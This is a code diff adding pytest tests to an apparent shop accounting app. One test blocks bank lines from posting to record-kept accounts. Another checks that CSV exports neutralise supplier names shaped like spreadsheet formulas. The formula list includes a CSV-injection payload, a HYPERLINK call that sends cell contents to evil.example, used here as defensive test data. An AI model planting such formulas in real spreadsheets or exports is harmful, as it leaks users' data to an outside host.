@@ -2,13 +2,21 @@
 edge of the calendar, amounts no bank could hold, and each answers beside its field with
 nothing changed, never a 500."""
 
+import csv
+import io
 from datetime import date, timedelta
 
 import pytest
 import sqlalchemy as sa
 
+from shop.accounting import chart
+from shop.accounting import services as books
 from shop.accounting.models import JournalEntry
 from shop.accounts import roles
+from shop.banking import matching
+from shop.banking.errors import BankingError
+from shop.banking.models import BankLine
+from shop.csv_export import PLAIN_NUMBER
 from shop.extensions import db
 from shop.inventory.availability import store_today
 from shop.payables import models as m
@@ -129,3 +137,57 @@ def test_a_payment_or_its_schedule_before_the_bill_is_refused_beside_the_date(cl
         assert f"before the bill's date, {bill.bill_date}" in message
     db.session.refresh(bill)
     assert (bill.amount_paid, bill.pay_on, bill.payments, _entries()) == (0, None, [], before)
+
+
+# --- a bank line posted as its own entry: never to an account its records keep --------------
+
+KEPT_BY_RECORDS = [
+    chart.INVENTORY, chart.RECEIVED_NOT_BILLED, chart.PAYABLE, chart.CLEARING,
+    chart.tax_role("GST"), chart.itc_role("HST"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("role", KEPT_BY_RECORDS)
+def test_a_bank_line_cannot_post_to_an_account_its_records_keep(bookkeeper, role):
+    """Bank / inventory (or accounts payable, clearing, tax) would leave the month-end check
+    of that account off by the amount: the supplier payment or payout is recorded instead."""
+    assert upload(bookkeeper, _ofx("-15.00"), "fee.ofx").status_code == 302
+    fee = db.session.scalar(sa.select(BankLine))
+    kept = books.account_for(role)
+    page = text_of(bookkeeper.get(f"/admin/accounting/bank/{fee.statement_id}"))
+    assert f'<option value="{kept.id}">' not in page
+    before = _entries()
+    response = bookkeeper.post(
+        f"/admin/accounting/bank/lines/{fee.id}/post", data={f"own{fee.id}-account_id": kept.id}
+    )
+    assert response.status_code == 302
+    assert _entries() == before and db.session.get(BankLine, fee.id).journal_line_id is None
+    with pytest.raises(BankingError) as refused:
+        matching.post_own_entry(fee, account=kept, user=None)
+    assert refused.value.field == "account_id" and kept.name in refused.value.message
+    assert _entries() == before
+
+
+# --- the new CSV files: a supplier named like a formula stays text --------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)"]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_supplier_named_like_a_formula_is_text_in_every_new_csv(classes, bookkeeper, name):
+    po = received_po(classes, quantity=10, unit_cost=1200)
+    po.supplier.name = name
+    db.session.commit()
+    bill = enter(po, name, quantity=5, bill_date=store_today() - timedelta(days=40))
+    for url in (
+        "/admin/payables/aging.csv",
+        "/admin/accounting/journal-quickbooks.csv",
+        "/admin/accounting/journal-xero.csv",
+    ):
+        response = bookkeeper.get(url)
+        assert response.status_code == 200
+        cells = [cell for row in csv.reader(io.StringIO(text_of(response))) for cell in row]
+        assert any(name in cell for cell in cells), url
+        risky = [c for c in cells if c[:1] and c[0] in "=+-@" and not PLAIN_NUMBER.fullmatch(c)]
+        assert risky == [], url
+    assert bill.supplier.name == name
